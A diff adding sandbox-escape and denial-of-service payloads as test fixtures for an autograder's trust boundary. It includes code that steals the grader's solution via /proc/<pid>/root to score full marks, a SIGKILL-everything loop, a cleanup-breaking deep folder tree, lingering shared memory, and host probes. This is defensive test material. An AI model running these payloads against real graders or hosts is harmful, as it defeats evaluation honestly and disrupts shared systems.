@@ -329,3 +329,165 @@ raise ValueError(
 )
 """,
 ]
+
+
+# ---------------------------------------------------------------------------------------------
+# Attacks of the second review (issue 20). Each broke the grader of commit 072e724, the last one
+# before the sandbox moved into namespaces (bubblewrap); tests/test_trust_boundary.py grades them.
+# ---------------------------------------------------------------------------------------------
+
+#: Where the kernel's Python lives says where the checkout is (the venv is .venv of it).
+_CHECKOUT = """
+import os as _os, sys as _sys
+_checkout = _os.path.dirname(_os.path.dirname(_os.path.dirname(_sys.executable)))
+_solution = _os.path.join(_checkout, "autograder", "offline_rl", "offline_rl-solution.ipynb")
+"""
+
+#: Finding 1 (issue 20): the old grader killed a run's processes through a helper started *as
+#: the sandbox uid* outside the jail. A background process of the kernel waits for it, stops it
+#: (same uid), and opens ``/proc/<helper>/root``: the host's ``/``. Through it, it copies the
+#: solution notebook of the checkout; an ``os._exit`` forces the restart that starts the helper;
+#: the last cell runs the stolen solution, so a blank notebook gets full marks.
+HELPER_ROOT = [
+    _CHECKOUT
+    + """
+_watcher = r'''
+import os, shutil, signal, sys, time
+target, out = sys.argv[1], sys.argv[2]
+end = time.monotonic() + 300
+while time.monotonic() < end and not os.path.exists(out):
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit() or int(pid) == os.getpid():
+            continue
+        try:
+            if b"kill(-1" not in open(f"/proc/{pid}/cmdline", "rb").read():
+                continue
+            os.kill(int(pid), signal.SIGSTOP)
+            time.sleep(0.05)
+            shutil.copyfile(f"/proc/{pid}/root" + target, out + ".part")
+            os.rename(out + ".part", out)
+        except OSError:
+            pass
+        finally:
+            try:
+                os.kill(int(pid), signal.SIGCONT)
+            except OSError:
+                pass
+'''
+import subprocess as _sp
+if not _os.path.exists("stolen.ipynb"):
+    _sp.Popen([_sys.executable, "-c", _watcher, _solution, _os.path.abspath("stolen.ipynb")],
+              start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
+""",
+    'import os as _os\nif not _os.path.exists("stolen.ipynb"):\n    _os._exit(1)',
+    """
+import json as _json, os as _os
+if _os.path.exists("stolen.ipynb"):
+    for _cell in _json.load(open("stolen.ipynb"))["cells"]:
+        _src = "".join(_cell["source"])
+        _tags = _cell.get("metadata", {}).get("tags", [])
+        if _cell["cell_type"] != "code" or "otter_ignore" in _tags or "grader" in _src:
+            continue
+        try:
+            exec(_src, globals())
+        except Exception:
+            pass
+    print("LEAKED-HOST: ran the stolen solution")
+""",
+]
+
+#: Finding 2 (issue 20): a background process that SIGKILLs everything its uid may signal, in a
+#: loop: the old grader's kill helper died the moment it became that uid, the grading failed,
+#: the guardian outlived the run, and the next grading on that uid failed too.
+GUARDIAN = [
+    """
+import subprocess as _sp, sys as _sys
+_sp.Popen([_sys.executable, "-c", "import os, signal\\nwhile True:\\n    try:\\n"
+           "        os.kill(-1, signal.SIGKILL)\\n    except OSError:\\n        pass\\n"],
+          start_new_session=True)
+import time as _time
+_time.sleep(2)
+"""
+]
+
+#: Finding 3 (issue 20): a folder tree 1500 deep, the top one closed (mode 0): shutil.rmtree
+#: recursed, raised RecursionError, and the old grader failed (a solution scored 0) and left the
+#: tree in /tmp.
+DEEP_TREE = [
+    """
+import os as _os
+_top = _os.getcwd()
+_os.mkdir("deep")
+_os.chdir("deep")
+for _ in range(1500):
+    _os.mkdir("d")
+    _os.chdir("d")
+    open("f", "w").close()
+_os.chdir(_top)
+_os.chmod("deep", 0)
+"""
+]
+
+#: Finding 5 (issue 20): shared memory that outlives the run: a SysV segment anyone may attach
+#: (a channel to later gradings, RAM outside RLIMIT_DATA), a /dev/shm file and a /tmp file.
+#: ``SHM_KEY`` lets a later kernel find the segment.
+SHM_KEY = 0x0F1E20
+SHARED_MEMORY = [
+    f"""
+import ctypes as _ct, os as _os
+_libc = _ct.CDLL(None, use_errno=True)
+_id = _libc.shmget({SHM_KEY}, 2**20, 0o1000 | 0o666)  # IPC_CREAT | rw for everyone
+for _path in ("/dev/shm/grading-leftover", "/tmp/grading-leftover"):
+    try:
+        with open(_path, "wb") as _f:
+            _f.write(bytes(2**20))
+    except OSError:
+        pass
+"""
+]
+
+#: Issue 20: what a kernel sees of the host, each probe raising with what it found so that the
+#: report shows it. PROBE_PORT_FILE (shipped in files/ by the test) names a TCP port the test
+#: listens on at 127.0.0.1: a kernel with network reaches it. The test also holds a SysV segment
+#: and a /dev/shm file of its own while the kernel looks (another run's, as far as it knows).
+PROBE_PORT_FILE = "probe_port.txt"
+HOST_PROBES = [
+    """
+import os as _os
+_seen = {}
+for _d in ("/", "/etc", "/root", "/work", "/home", "/var", "/opt", "/srv", "/run", "/mnt"):
+    try:
+        _seen[_d] = sorted(_os.listdir(_d))
+    except OSError:
+        pass
+_pids = [int(p) for p in _os.listdir("/proc") if p.isdigit()]
+try:
+    _init = open("/proc/1/cmdline", "rb").read().split(b"\\0")[0].decode()
+except OSError:
+    _init = "?"
+raise ValueError(f"HOSTVIEW {_seen!r} PIDS {len(_pids)} MAXPID {max(_pids)} INIT {_init} END")
+""",
+    f"""
+import socket as _socket
+_port = int(open({PROBE_PORT_FILE!r}).read())
+_s = _socket.socket()
+_s.settimeout(2)
+try:
+    _s.connect(("127.0.0.1", _port))
+    _net = "NETWORK-REACHED"
+except OSError as _err:
+    _net = f"no network ({{_err.errno}})"
+raise ValueError(_net)
+""",
+    """
+import ctypes as _ct, os as _os, time as _time
+_libc = _ct.CDLL(None, use_errno=True)
+_libc.shmget(0x0F1E21 + _os.getuid() % 1000, 4096, 0o1000 | 0o600)  # one of our own
+open("/dev/shm/probe-" + str(_os.getuid()), "w").close()
+_lines = open("/proc/sysvipc/shm").read().splitlines()[1:]
+_col = open("/proc/sysvipc/shm").read().splitlines()[0].split().index("uid")
+_foreign = [ln.split()[_col] for ln in _lines if int(ln.split()[_col]) != _os.getuid()]
+_shm = [n for n in _os.listdir("/dev/shm") if n != "probe-" + str(_os.getuid())]
+raise ValueError(f"IPCVIEW foreign_shm={len(_foreign)} foreign_dev_shm={len(_shm)} END")
+""",
+]
